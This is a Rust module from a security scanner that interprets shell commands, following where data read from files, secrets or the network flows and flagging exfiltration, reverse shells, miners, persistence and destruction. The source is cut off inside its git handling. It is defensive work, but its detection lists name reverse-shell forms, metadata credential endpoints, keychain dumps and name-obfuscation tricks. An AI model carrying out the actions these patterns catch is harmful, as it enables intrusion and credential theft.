//! What commands mean: what they read, what they make of it, where it goes.

use std::ops::Range;

use super::{Taint, Value, Walk, key};
use crate::scan::destination::{Class, addresses, classify, host};
use crate::scan::finding::{Context, Flow, Severity};
use crate::scan::findings::Match;
use crate::scan::flow::{self, is_active};
use crate::scan::kind::{Language, of_interpreter};
use crate::scan::places::{Spot, classify as spot, is_global, normalise};
use crate::scan::rules;
use crate::shell::SimpleCommand;

/// A command with its wrappers taken off: `sudo -E env X=1 nohup curl …` is `curl`.
struct Call {
    name: String,
    arguments: Vec<Value>,
    spans: Vec<Range<usize>>,
    /// Arguments come from the input: `xargs`.
    from_input: bool,
    privileged: bool,
}

impl Call {
    fn has(&self, options: &[&str]) -> bool {
        self.arguments.iter().any(|argument| {
            options.iter().any(|option| {
                argument.text == *option
                    || option.starts_with("--") && argument.text.split('=').next() == Some(option)
            })
        })
    }

    /// Whether a cluster of short options holds a letter.
    fn has_letter(&self, letter: char) -> bool {
        self.arguments.iter().any(|argument| {
            argument.text.starts_with('-')
                && !argument.text.starts_with("--")
                && argument.text.contains(letter)
        })
    }

    fn plain(&self) -> impl Iterator<Item = &Value> {
        self.arguments.iter().filter(|argument| !argument.text.starts_with('-'))
    }

    /// The value after an option, or after its `=`.
    fn value_of(&self, options: &[&str]) -> Option<&Value> {
        let at =
            self.arguments.iter().position(|argument| options.contains(&argument.text.as_str()))?;
        self.arguments.get(at + 1)
    }

    fn text(&self) -> String {
        self.arguments.iter().map(|argument| argument.text.as_str()).collect::<Vec<_>>().join(" ")
    }

    fn taint(&self) -> Taint {
        let mut taint = Taint::default();
        for argument in &self.arguments {
            taint.add(&argument.taint);
        }
        taint
    }
}

impl Walk<'_, '_, '_> {
    /// Runs a simple command in the mind; gives what it writes to its output, and that text where
    /// it is known.
    pub(super) fn run(
        &mut self,
        simple: &SimpleCommand,
        input: &Taint,
        input_text: &str,
    ) -> (Taint, String) {
        let mut arguments: Vec<Value> = simple.words.iter().map(|word| self.word(word)).collect();
        let spans: Vec<Range<usize>> = simple.words.iter().map(|word| word.span.clone()).collect();
        let at = simple.span.clone();
        self.check_built_name(simple, &arguments[0], &at);
        if arguments[0].text.contains(' ') && arguments.len() == 1 {
            // `$cmd` that holds a whole command line.
            let text = std::mem::take(&mut arguments[0].text);
            let taint = arguments[0].taint.clone();
            let found = flow::to_interpreter(&taint, "the shell", self.passage.context);
            self.report_some(&at, found);
            return (self.nested(&text, at.start, input), String::new());
        }
        let mut call = unwrap(arguments, spans);
        if let Some(bare) = call.name.strip_suffix(".exe") {
            call.name = bare.to_owned();
        }
        self.check_words(&call, &at);
        let mut output = Taint::default();
        let mut text = String::new();
        let taint = call.taint();
        let name = call.name.as_str();
        match name {
            "echo" | "printf" | "print" => {
                output.add(&taint);
                text = call
                    .arguments
                    .iter()
                    .map(|a| a.text.as_str())
                    .filter(|a| !matches!(*a, "-n" | "-e" | "-ne" | "-en"))
                    .collect::<Vec<_>>()
                    .join(" ");
                let escapes = text.matches("\\x").count()
                    + text.matches("\\0").count()
                    + octal_escapes(&text);
                if escapes >= 4 {
                    output.add(&Taint::decoded("character escapes"));
                }
            }
            "curl" | "wget" | "http" | "https" | "xh" | "aria2c" | "httpie" | "lynx" | "fetch"
            | "axel" | "w3m" => {
                output.add(&self.transfer(&call, input, &at));
            }
            "nc" | "ncat" | "netcat" | "nc.traditional" | "socat" | "telnet" | "openssl"
                if name != "openssl"
                    || call.arguments.first().is_some_and(|a| a.text == "s_client") =>
            {
                self.connect(&call, input, &at);
                output.add(&Taint::remote(call_address(&call)));
            }
            "base64" | "base32" | "openssl" | "xxd" | "uudecode" | "gunzip" | "zcat" | "gzip"
            | "rev" | "tr" | "bzip2" | "xz" | "ascii2uni" | "hexdump" | "od" | "gpg"
            | "zlib-flate" | "basenc" => {
                output.add(input);
                output.add(&taint);
                for argument in call.plain() {
                    output.add(&self.file(&argument.text));
                }
                if let Some(how) = decodes(&call) {
                    output.add(&Taint::decoded(how));
                }
                if name == "gpg" && call.text().contains("export-secret") {
                    output.add(&Taint::secret("GPG keys"));
                }
                for option in [&["-out"][..], &["-o"], &["-output"]] {
                    if let Some(path) = call.value_of(option) {
                        let path = path.text.clone();
                        self.write(&path, "", &output.clone(), &at);
                    }
                }
                if name == "rev" {
                    text = input_text.chars().rev().collect();
                }
            }
            "env" | "printenv" | "set" | "export" | "declare" | "typeset" | "compgen" => {
                if name == "set" && call.has(&["--"]) {
                    let mut all = Value::default();
                    for argument in &call.arguments {
                        all.taint.add(&argument.taint);
                        all.taint.add(&Taint::of_file(&argument.text));
                    }
                    self.memory.variables.insert("@".to_owned(), all);
                }
                let plain: Vec<&Value> = call.plain().collect();
                let bare = plain.is_empty()
                    && !call.has(&["-e", "-u", "-x", "-o", "-eu", "-euo", "-ex", "+e"])
                    && (name != "set" || call.arguments.is_empty());
                if name != "compgen" && (bare || call.has(&["-p"]) && name == "export")
                    || name == "declare" && call.has(&["-x", "-px", "-xp"]) && plain.is_empty()
                {
                    output.add(&Taint::environment());
                } else if name == "printenv" {
                    for argument in plain {
                        output.add(&Taint::key(&argument.text));
                    }
                } else if name == "export" || name == "declare" || name == "typeset" {
                    for argument in call.arguments.clone() {
                        if let Some((variable, value)) = argument.text.split_once('=') {
                            let value =
                                Value { text: value.to_owned(), taint: argument.taint.clone() };
                            self.check_assignment(variable, &value, &at);
                            self.memory.variables.insert(variable.to_owned(), value);
                        }
                    }
                }
            }
            "cat" | "head" | "tail" | "less" | "more" | "strings" | "grep" | "egrep" | "rg"
            | "sed" | "awk" | "gawk" | "cut" | "sort" | "uniq" | "jq" | "yq" | "tac" | "nl"
            | "fold" | "xargs" | "paste" | "column" | "split" | "tee" | "dd" | "sqlite3"
            | "plutil" | "bat" | "wc" | "sponge" | "pv" | "tojson" | "iconv" | "find" | "ls"
            | "type" | "Get-Content" => {
                if !matches!(name, "wc") {
                    if !matches!(name, "ls" | "find") {
                        output.add(input);
                        output.add(&taint);
                    }
                    for argument in call.plain() {
                        let file =
                            self.file(argument.text.strip_prefix("if=").unwrap_or(&argument.text));
                        if !matches!(name, "ls") {
                            output.add(&file);
                        }
                    }
                }
                text = if name == "cat" || name == "tee" {
                    input_text.to_owned()
                } else {
                    String::new()
                };
                if name == "tee" {
                    let paths: Vec<String> =
                        call.plain().map(|argument| argument.text.clone()).collect();
                    for path in paths {
                        self.write(&path, input_text, input, &at);
                    }
                }
                if name == "sed" && (call.has_letter('i') || call.has(&["--in-place"])) {
                    let script = call.text();
                    let paths: Vec<String> =
                        call.plain().skip(1).map(|argument| argument.text.clone()).collect();
                    for path in paths {
                        self.write(&path, &script, &taint, &at);
                    }
                }
                if name == "dd" || name == "find" {
                    self.destroy(&call, &at);
                }
            }
            "cp" | "mv" | "install" | "ln" | "rsync" | "ditto" | "tar" | "zip" | "7z" | "7za"
            | "rar" | "scp" | "sftp" | "rclone" | "aws" | "gsutil" | "gcloud" | "az" | "mc"
            | "s3cmd" | "azcopy" | "ftp" | "lftp" | "gh" | "croc" | "wormhole" | "mail"
            | "mailx" | "sendmail" | "mutt" | "swaks" | "msmtp" | "ssh" | "s3" | "b2" | "ipfs"
            | "osascript" | "security" | "secret-tool" | "pass" | "op" | "bw" | "kubectl"
            | "git" | "dig" | "nslookup" | "host" | "drill" | "ping" | "history" | "xclip"
            | "xsel" | "pbpaste" | "wl-paste" | "screencapture" | "scrot" | "unzip"
            | "ssh-keyscan" | "keyring" | "lpass" | "vault" | "heroku" | "doctl" | "vercel"
            | "drush" | "expect" => {
                output.add(&self.move_data(&call, input, &at));
            }
            "crontab" => {
                if !call.has(&["-l", "-r", "-e"]) {
                    let active =
                        is_active(input_text) || input.remote.is_some() || input.decoded.is_some();
                    let severity = if active {
                        Severity::Critical
                    } else if self.passage.context == Context::Script {
                        Severity::Warn
                    } else {
                        Severity::Info
                    };
                    let flow = Flow::new("a command", "crontab").when("by the clock");
                    self.report(
                        &at,
                        Match::new(
                            &rules::PERSISTENCE_WRITE,
                            severity,
                            "the person's crontab is replaced",
                        )
                        .with(flow),
                    );
                }
            }
            "systemctl" | "launchctl" | "schtasks" | "schtasks.exe" | "at" | "batch" | "reg"
            | "reg.exe" | "update-rc.d" | "chkconfig" | "loginctl" | "sc" | "sc.exe"
            | "defaults" => self.enable(&call, input_text, &at),
            name if name.starts_with("mkfs") => self.destroy(&call, &at),
            "rm" | "shred" | "wipefs" | "diskutil" | "truncate" | "unlink" | "srm" | "rmdir"
            | "del" | "rd" | "format" => self.destroy(&call, &at),
            "chmod" | "chown" | "setcap" => self.change_mode(&call, &at),
            "unset" => {
                if call.text().contains("HISTFILE") {
                    self.report(
                        &at,
                        Match::new(
                            &rules::TRACE_WIPING,
                            Severity::Warn,
                            "the shell's history is switched off",
                        ),
                    );
                }
            }
            "source" | "." | "eval" | "exec" => {
                let mut taint = taint.clone();
                for argument in call.plain() {
                    if name != "eval" {
                        taint.add(
                            &self
                                .memory
                                .files
                                .get(&key(&argument.text))
                                .cloned()
                                .unwrap_or_default(),
                        );
                    }
                }
                let found =
                    flow::to_interpreter(&taint, &format!("`{name}`"), self.passage.context);
                self.report_some(&at, found);
                if name == "eval" {
                    let script = call.text();
                    output.add(&self.nested(&script, at.start, input));
                }
            }
            "read" | "mapfile" | "readarray" => {
                let names: Vec<String> =
                    call.plain().map(|argument| argument.text.clone()).collect();
                for name in names {
                    self.memory
                        .variables
                        .insert(name, Value { text: input_text.to_owned(), taint: input.clone() });
                }
            }
            "npx" | "bunx" | "pnpm" | "yarn" | "uvx" | "pipx" | "npm" | "pip" | "pip3" | "uv"
            | "bun" | "go" | "cargo" | "brew" | "gem" | "docker" | "podman" => {
                self.packages(&call, &at);
                if name == "bun" || name == "uv" {
                    self.interpret(&call, input, input_text, &at);
                }
            }
            "claude" | "codex" | "gemini" | "openclaw" | "opencode" | "hermes" | "cursor-agent"
            | "aider" | "goose" | "qwen" => self.agent(&call, &at),
            "xattr" | "spctl" | "setenforce" | "ufw" | "csrutil" | "iptables" | "auditctl"
            | "swapoff" | "powershell" | "pwsh" | "powershell.exe" | "certutil" | "mshta"
            | "bitsadmin" | "regsvr32" | "netsh" | "rundll32" | "wmic" | "cmd" | "cmd.exe"
            | "msiexec" | "open" | "installer" | "hdiutil" | "dpkg" | "tccutil" => {
                self.protections(&call, &at);
                self.interpret(&call, input, input_text, &at);
            }
            _ => {
                self.interpret(&call, input, input_text, &at);
                // Of an unknown program nothing is known but that it may pass on what it gets.
                if let Some(made) = self.called(name, &call.arguments, input) {
                    return (made, String::new());
                }
                if !name.contains('/') {
                    output.add(input);
                }
                output.keys.extend(taint.keys.iter().cloned());
            }
        }
        (output, text)
    }

    /// A name put together from several variables hides what runs.
    fn check_built_name(&mut self, simple: &SimpleCommand, name: &Value, at: &Range<usize>) {
        let Some(word) = simple.words.first() else { return };
        let expansions =
            self.source.get(word.span.clone()).unwrap_or_default().matches('$').count();
        let letters = !name.text.is_empty()
            && name
                .text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-' | b'_' | b'.'));
        let known = matches!(
            name.text.rsplit('/').next(),
            Some(
                "curl"
                    | "wget"
                    | "sh"
                    | "bash"
                    | "zsh"
                    | "python"
                    | "python3"
                    | "nc"
                    | "eval"
                    | "perl"
                    | "ruby"
                    | "node"
                    | "base64"
                    | "exec"
                    | "ssh"
                    | "osascript"
            )
        );
        if expansions >= 2 && letters && known {
            self.report(
                at,
                Match::new(
                    &rules::OBFUSCATED_CODE,
                    Severity::Warn,
                    format!("the command `{}` is put together from pieces", name.text),
                ),
            );
        }
        let source = self.source.get(word.span.clone()).unwrap_or_default();
        // … | $(g 1 0 18 7): what runs is only known when it runs. `$(which x)` is a lookup.
        let lookup = [
            "which", "command", "brew", "npm", "type", "dirname", "pwd", "realpath", "readlink",
            "git", "pyenv", "rbenv", "xcrun", "go env", "python", "node", "nvm",
        ]
        .iter()
        .any(|tool| source.contains(tool));
        if source.starts_with("$(")
            && source.ends_with(')')
            && !lookup
            && !matches!(name.text.as_str(), "")
            && self.passage.context == Context::Script
            && self
                .source
                .get(..word.span.start)
                .is_some_and(|before| before.trim_end().ends_with('|'))
        {
            self.report(
                at,
                Match::new(
                    &rules::OBFUSCATED_CODE,
                    Severity::Warn,
                    "the command that gets the text is put together when it runs",
                ),
            );
        }
        // c''u''r''l, c\u\r\l: quotes and backslashes inside a name have no other use.
        if known
            && expansions == 0
            && (source.matches("''").count() + source.matches("\"\"").count() >= 1
                || source.matches('\\').count() >= 2)
        {
            self.report(
                at,
                Match::new(
                    &rules::OBFUSCATED_CODE,
                    Severity::Warn,
                    format!(
                        "the command `{}` is written so that a search does not find it",
                        name.text
                    ),
                ),
            );
        }
    }

    /// Words that matter wherever they stand in a command.
    fn check_words(&mut self, call: &Call, at: &Range<usize>) {
        let text = call.text();
        let all = format!("{} {text}", call.name);
        let mention = self.passage.context == Context::InlineCode && call.arguments.is_empty();
        let searches = matches!(
            call.name.as_str(),
            "grep"
                | "egrep"
                | "rg"
                | "pgrep"
                | "pkill"
                | "ps"
                | "find"
                | "ss"
                | "awk"
                | "sed"
                | "echo"
        );
        let miner = matches!(
            call.name.rsplit('/').next(),
            Some(
                "xmrig"
                    | "minerd"
                    | "cpuminer"
                    | "cgminer"
                    | "ethminer"
                    | "nbminer"
                    | "t-rex"
                    | "lolMiner"
                    | "xmr-stak"
            )
        );
        let pool = all.contains("stratum+tcp") || all.contains("stratum+ssl");
        if !mention && !searches && (pool || miner) {
            self.report(
                at,
                Match::new(&rules::RESOURCE_ABUSE, Severity::Critical, "a miner is started"),
            );
        }
        if text.contains("169.254.169.254")
            || text.contains("metadata.google.internal")
            || text.contains("169.254.170.2")
            || text.contains("100.100.100.200")
        {
            let credentials =
                ["security-credentials", "service-accounts", "oauth2/token", "identity/", "ram/"]
                    .iter()
                    .any(|part| text.contains(part))
                    || text.contains("169.254.170.2");
            let severity = if credentials { Severity::Critical } else { Severity::Info };
            self.report(
                at,
                Match::new(
                    &rules::METADATA_CREDENTIALS,
                    severity,
                    "the cloud's metadata service is asked for credentials",
                ),
            );
        }
    }

    /// `curl`, `wget` and their kin.
    fn transfer(&mut self, call: &Call, input: &Taint, at: &Range<usize>) -> Taint {
        let mut address = String::new();
        let mut sent = Taint::default();
        let mut headers = Taint::default();
        let mut saved: Option<String> = None;
        let mut next = call.arguments.iter().peekable();
        let wget = call.name == "wget";
        let mut to_stdout = false;
        while let Some(argument) = next.next() {
            let (option, joined) = match argument.text.split_once('=') {
                Some((option, value)) if option.starts_with("--") => {
                    (option.to_owned(), Some(value.to_owned()))
                }
                _ => (argument.text.clone(), None),
            };
            let mut take = || match &joined {
                Some(value) => Value { text: value.clone(), taint: argument.taint.clone() },
                None => next.next().cloned().unwrap_or_default(),
            };
            match option.as_str() {
                "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode"
                | "--data-ascii" | "--json" | "--post-data" | "--body-data" | "--url-query" => {
                    let value = take();
                    self.body(&value, input, &mut sent);
                }
                "-F" | "--form" | "--form-string" => {
                    let value = take();
                    let inner =
                        value.text.split_once('=').map_or(value.text.as_str(), |(_, inner)| inner);
                    let value = Value { text: inner.to_owned(), taint: value.taint };
                    self.body(&value, input, &mut sent);
                }
                "-T" | "--upload-file" | "--post-file" | "--body-file" => {
                    let value = take();
                    sent.add(&value.taint);
                    if value.text == "-" || value.text == "." {
                        sent.add(input);
                    } else {
                        sent.add(&self.file(&value.text));
                    }
                }
                "-H" | "--header" | "-b" | "--cookie" | "-A" | "--user-agent" | "-e"
                | "--referer" => {
                    let value = take();
                    let auth = value.text.to_ascii_lowercase();
                    let is_auth = auth.contains("authorization")
                        || auth.contains("api-key")
                        || auth.contains("token")
                        || auth.contains("apikey")
                        || auth.contains("x-auth");
                    if is_auth {
                        headers.add(&value.taint)
                    } else {
                        sent.add(&value.taint)
                    };
                    if value.text.starts_with('@') {
                        sent.add(&self.file(&value.text[1..]));
                    }
                }
                "-u" | "--user" | "--oauth2-bearer" | "--proxy-user" => {
                    let value = take();
                    headers.add(&value.taint);
                }
                "-o" | "--output" | "-O" | "--output-document" if option != "-O" || wget => {
                    let value = take();
                    if value.text == "-" || value.text == "/dev/stdout" {
                        to_stdout = true;
                    } else {
                        saved = Some(value.text);
                    }
                }
                "-O" | "--remote-name" | "-J" | "-LO" | "-sLO" | "-fsSLO" | "-OL" | "-LOs"
                | "-fLO" | "-sSLO" | "-sO" => saved = Some("<remote-name>".to_owned()),
                "-X" | "--request" | "-m" | "--max-time" | "--connect-timeout" | "-w"
                | "--write-out" | "--retry" | "-c" | "--cookie-jar" | "-E" | "--cert" | "--key"
                | "--cacert" | "-x" | "--proxy" | "--resolve" | "-D" | "--dump-header" | "-P"
                | "--directory-prefix" | "-U" | "-t" | "--tries" | "--timeout" | "-r"
                | "--range" | "--max-redirs" | "-i"
                    if !(wget && matches!(option.as_str(), "-c" | "-x" | "-r" | "-E" | "-D"))
                        && (wget || option != "-i") =>
                {
                    take();
                }
                "--url" => address = take().text,
                option if option.starts_with('-') && option.len() > 1 => {
                    // Clusters such as -qO- or -fsSLo file, -d@file.
                    if let Some(rest) = option
                        .strip_prefix("-d")
                        .filter(|rest| rest.starts_with('@') || rest.starts_with('$'))
                    {
                        self.body(
                            &Value { text: rest.to_owned(), taint: argument.taint.clone() },
                            input,
                            &mut sent,
                        );
                    } else if !option.starts_with("--") {
                        if wget && option.contains('O') {
                            let rest = option.rsplit('O').next().unwrap_or_default().to_owned();
                            match rest.as_str() {
                                "-" => to_stdout = true,
                                "" => {
                                    let value = take();
                                    if value.text == "-" {
                                        to_stdout = true;
                                    } else {
                                        saved = Some(value.text);
                                    }
                                }
                                _ => saved = Some(rest),
                            }
                        } else if !wget && option.ends_with('o') {
                            let value = take();
                            if value.text == "-" {
                                to_stdout = true;
                            } else {
                                saved = Some(value.text);
                            }
                        } else if !wget && option.contains('O') {
                            saved = Some("<remote-name>".to_owned());
                        } else if !wget && (option.ends_with('d') || option.ends_with('F')) {
                            let value = take();
                            self.body(&value, input, &mut sent);
                        } else if !wget && option.ends_with('H') {
                            headers.add(&take().taint);
                        } else if !wget && option.ends_with('X') {
                            take();
                        } else if !wget && option.ends_with('T') {
                            let value = take();
                            sent.add(&self.file(&value.text));
                            sent.add(&value.taint);
                        }
                    }
                }
                _ => {
                    // An address, or the method and fields of httpie.
                    let is_address = argument.text.contains("://")
                        || argument.text.contains('.') && argument.text.contains('/')
                        || argument.text.starts_with('$')
                        || address.is_empty() && argument.text.contains('.');
                    if is_address && (address.is_empty() || argument.text.contains("://")) {
                        if address.is_empty() {
                            address.clone_from(&argument.text);
                        }
                        sent.add(&argument.taint);
                    } else if argument.text.contains(['=', '@', '<']) {
                        let field = argument
                            .text
                            .split(['=', '@'])
                            .next_back()
                            .unwrap_or_default()
                            .to_owned();
                        sent.add(&argument.taint);
                        if argument.text.contains('@') {
                            sent.add(&self.file(&field));
                        }
                    }
                }
            }
        }
        if call.from_input {
            sent.add(input);
            if address.is_empty() {
                address.clone_from(&input.remote.clone().unwrap_or_default());
            }
        }
        let via = format!("`{}`", call.name);
        let address = if address.contains("://") || address.is_empty() || address.starts_with('$') {
            address
        } else {
            format!("http://{address}")
        };
        let mut all = sent;
        // A key in its header is how an API is used; elsewhere it is data.
        all.keys.extend(headers.keys);
        let own = self.skill.is_about(&host(&address).unwrap_or_default());
        if !own && !matches!(classify(&address), Class::Service | Class::Installer) {
            all.secrets.extend(headers.secrets);
        }
        all.environment |= headers.environment;
        let found = flow::to_network(&all, &address, &via, self.passage.context, self.skill);
        self.report_some(at, found);
        if wget && !to_stdout && saved.is_none() {
            saved = Some("<remote-name>".to_owned());
        }
        match saved {
            Some(path) => {
                let path = if path == "<remote-name>" {
                    address
                        .rsplit('/')
                        .next()
                        .unwrap_or_default()
                        .split('?')
                        .next()
                        .unwrap_or_default()
                        .to_owned()
                } else {
                    path
                };
                self.write(&path, "", &Taint::remote(address), at);
                Taint::default()
            }
            // Without an address there is nothing to fetch: the text only talks of the command.
            None if address.is_empty() && !call.from_input => Taint::default(),
            None => Taint::remote(address),
        }
    }

    /// A request's body: text, `@file`, `@-`.
    fn body(&self, value: &Value, input: &Taint, sent: &mut Taint) {
        sent.add(&value.taint);
        if let Some(path) = value
            .text
            .strip_prefix('@')
            .or_else(|| value.text.strip_prefix('<'))
            .or_else(|| value.text.split_once("=@").map(|(_, path)| path))
            .or_else(|| {
                value
                    .text
                    .split_once('@')
                    .map(|(_, path)| path)
                    .filter(|_| !value.text.contains("://"))
            })
        {
            let path = path.split(';').next().unwrap_or(path);
            if path == "-" || path == "/dev/stdin" || path == "<()" {
                sent.add(input);
            } else {
                sent.add(&self.file(path));
            }
        }
    }

    /// `nc`, `socat`: a line to somewhere, sometimes with a shell at its end.
    fn connect(&mut self, call: &Call, input: &Taint, at: &Range<usize>) {
        let text = call.text();
        let address = call_address(call);
        let shell = [
            "/bin/sh",
            "/bin/bash",
            "/bin/zsh",
            "cmd.exe",
            "powershell",
            "bash -i",
            "sh -i",
            "bash",
            "EXEC:",
            "SYSTEM:",
        ]
        .iter()
        .any(|shell| text.contains(shell));
        let executes = call.has(&["-e", "-c", "--exec", "--sh-exec"])
            || call.has_letter('e') && shell
            || text.to_ascii_uppercase().contains("EXEC:")
            || text.to_ascii_uppercase().contains("SYSTEM:");
        if executes && shell {
            self.shell_to(&address, at);
            return;
        }
        let found = flow::to_network(
            input,
            &address,
            &format!("`{}`", call.name),
            self.passage.context,
            self.skill,
        );
        self.report_some(at, found);
        // The far end's commands come back through a named pipe: `mkfifo f; sh <f | nc host >f`.
        if self.source.contains("mkfifo")
            && ["sh -i", "bash -i", "/bin/sh", "/bin/bash", "| sh", "|sh", "| bash"]
                .iter()
                .any(|shell| self.source.contains(shell))
        {
            self.shell_to(&address, at);
        }
    }

    fn shell_to(&mut self, address: &str, at: &Range<usize>) {
        let to = host(address).unwrap_or_default();
        let class = classify(address);
        let example = matches!(class, Class::Placeholder | Class::Local)
            && !matches!(self.passage.context, Context::Script | Context::Hidden);
        let severity = if example { Severity::Info } else { Severity::Critical };
        let flow = Flow::new("a shell", "a network connection").to(to);
        self.report(
            at,
            Match::new(&rules::REVERSE_SHELL, severity, "a shell is connected to a remote machine")
                .with(flow),
        );
    }

    /// Copying, packing and uploading.
    fn move_data(&mut self, call: &Call, input: &Taint, at: &Range<usize>) -> Taint {
        let mut data = call.taint();
        let name = call.name.as_str();
        for argument in call.plain() {
            let path = argument.text.trim_start_matches('@').trim_start_matches("file://");
            // The key that a connection is made with is used, not sent.
            if !(name == "ssh" || name == "scp" || name == "rsync" || name == "sftp")
                || call.value_of(&["-i"]).is_none_or(|key| key.text != argument.text)
            {
                data.add(&self.file(path));
            }
        }
        let text = call.text();
        let verb = call.plain().next().map(|argument| argument.text.clone()).unwrap_or_default();
        match name {
            "cp" | "mv" | "install" | "ln" | "ditto" | "rsync" | "tar" | "zip" | "7z" | "7za"
            | "rar" | "unzip" => {
                let paths: Vec<String> =
                    call.plain().map(|argument| argument.text.clone()).collect();
                if let Some(target) = paths.last()
                    && matches!(name, "cp" | "mv" | "install" | "ln" | "ditto")
                    && paths.len() > 1
                {
                    let linked_null =
                        name == "ln" && paths.first().is_some_and(|from| from == "/dev/null");
                    let content = if linked_null { String::new() } else { paths[0].clone() };
                    self.write(target, &content, &data, at);
                }
                if name == "rsync"
                    && (text.contains("rsync://")
                        || paths.iter().any(|path| path.contains('@') && path.contains(':')))
                {
                    let address =
                        paths.iter().find(|path| path.contains(':')).cloned().unwrap_or_default();
                    let found = flow::to_network(
                        &data,
                        &remote_copy(&address),
                        "`rsync`",
                        self.passage.context,
                        self.skill,
                    );
                    self.report_some(at, found);
                } else if !data.is_clean() {
                    for path in &paths {
                        self.memory.files.entry(key(path)).or_default().add(&data);
                    }
                }
                data
            }
            "scp" | "sftp" | "ftp" | "lftp" | "rclone" | "mc" | "s3cmd" | "azcopy" | "croc"
            | "wormhole" | "b2" | "ipfs" | "gsutil" | "mail" | "mailx" | "sendmail" | "mutt"
            | "swaks" | "msmtp" | "ssh" => {
                let address = call
                    .plain()
                    .map(|argument| argument.text.as_str())
                    .find(|text| text.contains(':') || text.contains('@'))
                    .unwrap_or_default()
                    .to_owned();
                let mut sent = data.clone();
                sent.add(input);
                let found = flow::to_network(
                    &sent,
                    &remote_copy(&address),
                    &format!("`{name}`"),
                    self.passage.context,
                    self.skill,
                );
                self.report_some(at, found);
                Taint::default()
            }
            "aws" => {
                if text.contains("configure get")
                    || text.contains("get-session-token")
                    || text.contains("export-credentials")
                {
                    return Taint::secret("AWS credentials");
                }
                if text.contains("s3 cp")
                    || text.contains("s3 sync")
                    || text.contains("s3api put-object")
                {
                    let bucket = call
                        .plain()
                        .find(|a| a.text.starts_with("s3://"))
                        .map(|a| a.text.clone())
                        .unwrap_or_default();
                    let mut sent = data.clone();
                    sent.add(input);
                    let found = flow::to_network(
                        &sent,
                        &bucket,
                        "`aws s3`",
                        self.passage.context,
                        self.skill,
                    );
                    self.report_some(at, found);
                }
                self.bulk_delete(
                    call,
                    &[
                        "s3 rb",
                        "s3 rm",
                        "s3api delete-bucket",
                        "dynamodb delete-table",
                        "rds delete-db",
                    ],
                    at,
                );
                Taint::default()
            }
            "gcloud" | "az" | "doctl" | "heroku" | "vercel" | "vault" => {
                self.bulk_delete(call, &["delete", "purge"], at);
                if text.contains("print-access-token")
                    || text.contains("get-access-token")
                    || text.contains("print-identity-token")
                {
                    Taint::secret("cloud access token")
                } else {
                    Taint::default()
                }
            }
            "gh" => {
                if text.contains("auth token") {
                    return Taint::key("GITHUB_TOKEN");
                }
                if text.contains("gist create")
                    || text.contains("release upload")
                    || text.contains("issue create")
                    || text.contains("issue comment")
                    || text.contains("pr comment")
                {
                    let mut sent = data.clone();
                    sent.add(input);
                    let found = flow::to_network(
                        &sent,
                        "https://gist.github.com/",
                        "`gh`",
                        self.passage.context,
                        self.skill,
                    );
                    self.report_some(at, found);
                }
                Taint::default()
            }
            "kubectl" => {
                self.bulk_delete(call, &["delete"], at);
                if text.contains("secret") && text.contains("get") {
                    Taint::secret("Kubernetes secrets")
                } else {
                    Taint::default()
                }
            }
            "security" => {
                if text.contains("find-generic-password")
                    || text.contains("find-internet-password")
                    || text.contains("dump-keychain")
                    || text.contains("export")
                {
                    Taint::secret("keychain")
                } else {
                    Taint::default()
                }
            }
            "secret-tool" | "pass" | "op" | "bw" | "keyring" | "lpass" => {
                if verb == "lookup"
                    || verb == "show"
                    || verb == "read"
                    || verb == "get"
                    || verb == "search"
                    || verb == "list"
                    || verb == "export"
                {
                    Taint::secret("passwords")
                } else {
                    Taint::default()
                }
            }
            "history" => {
                if call.has(&["-c"])
                    || call.has_letter('c')
                    || call.has_letter('w') && self.source.contains("history -c")
                {
                    self.report(
                        at,
                        Match::new(
                            &rules::TRACE_WIPING,
                            Severity::Warn,
                            "the shell's history is cleared",
                        ),
                    );
                    Taint::default()
                } else {
                    Taint::secret("shell history")
                }
            }
            "pbpaste" | "wl-paste" => Taint::secret("clipboard"),
            "xclip" | "xsel" if call.has(&["-o", "--output", "-out", "-ob", "-b"]) => {
                Taint::secret("clipboard")
            }
            "screencapture" | "scrot" => {
                let paths: Vec<String> =
                    call.plain().map(|argument| argument.text.clone()).collect();
                for path in paths {
                    self.memory
                        .files
                        .entry(key(&path))
                        .or_default()
                        .add(&Taint::secret("screenshots"));
                }
                Taint::default()
            }
            "dig" | "nslookup" | "host" | "drill" | "ping" => {
                let mut sent = data.clone();
                sent.add(input);
                let address = call
                    .plain()
                    .map(|a| a.text.as_str())
                    .find(|text| text.contains('.') && !text.starts_with('@'))
                    .unwrap_or_default()
                    .trim_start_matches("$()")
                    .trim_start_matches('.')
                    .to_owned();
                let address = address.rsplit_once('$').map_or(address.clone(), |(_, rest)| {
                    rest.split_once('.').map_or(String::new(), |(_, host)| host.to_owned())
                });
                let found = flow::to_network(
                    &sent,
                    &address,
                    "DNS names",
                    self.passage.context,
                    self.skill,
                );
                self.report_some(at, found);
                Taint::remote(format!("dns://{address}"))
            }
            "git" => {
                self.git(call, at);
                Taint::default()
            }
            "osascript" => {
                self.interpret(call, input, "", at);
                Taint::default()
            }
            _ => data,
        }
    }

    fn bulk_delete(&mut self, call: &Call, verbs: &[&str], at: &Range<usize>) {
        let text = call.text();
        if !verbs.iter().any(|verb| text.contains(verb)) {
            return;
        }
        let everything = text.contains("--all-namespaces")
            || text.contains("--all")
                && (text.contains("namespace") || text.contains(" ns") || text.contains("pv"))
            || text.contains("delete ns $")
            || text.contains("delete namespace $");
        let each = (self.looping > 0 || call.from_input)
            && (text.contains("--force")
                || text.contains("--recursive")
                || text.contains("delete")
                || text.contains(" rb "));
        if everything || each {
            self.report(
                at,
                Match::new(
                    &rules::DESTRUCTIVE,
                    Severity::Critical,
                    "everything of a kind is deleted, one after the other",
                ),
            );
        }
    }

    fn git(&mut self, call: &Call, at: &Range<usize>) {
        let text = call.text();
        let verb = call.plain().next().map(|argument| argument.text.clone()).unwrap_or_default();
        if verb == "remote" && (text.contains("add") || text.contains("set-url")) {
            if let (Some(name), Some(address)) = (call.plain().nth(2), call.plain().nth(3)) {
                let value = Value {
                    text: address.text.clone(),
                    taint: Taint::remote(address.text.clone()),
                };
                self.memory.variables.insert(format!("git remote {}", name.text), value);
            }
        } else if verb == "bundle" || verb == "archive" {
            let paths: Vec<String> =
                call.plain().skip(1).map(|argument| argument.text.clone()).collect();
            if call.has(&["--all"]) {
                for path in paths {
                    self.memory
                        .files
                        .entry(key(&path))
                        .or_default()
                        .add(&Taint::secret("every branch of the repository"));
                }
            }
        } else if verb == "push" {
            let target =
